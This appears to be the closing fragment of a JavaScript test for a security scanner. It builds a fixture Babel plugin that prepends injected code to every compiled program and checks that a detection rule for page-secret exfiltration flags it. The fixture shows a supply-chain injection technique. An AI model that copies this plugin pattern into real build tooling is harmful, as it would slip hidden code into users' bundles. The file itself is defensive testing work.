      'lib/index.js': `const { declare } = require('@babel/helper-plugin-utils');\nmodule.exports = declare((api) => { const code = api.template.statements.ast(${JSON.stringify(inject)}); return { visitor: { Program(p) { p.unshiftContainer('body', code); } } }; });`,
    });
    expect(ruleOf(viaDeclare, 'js.page-secret-exfil')).toBeDefined();
  });
});
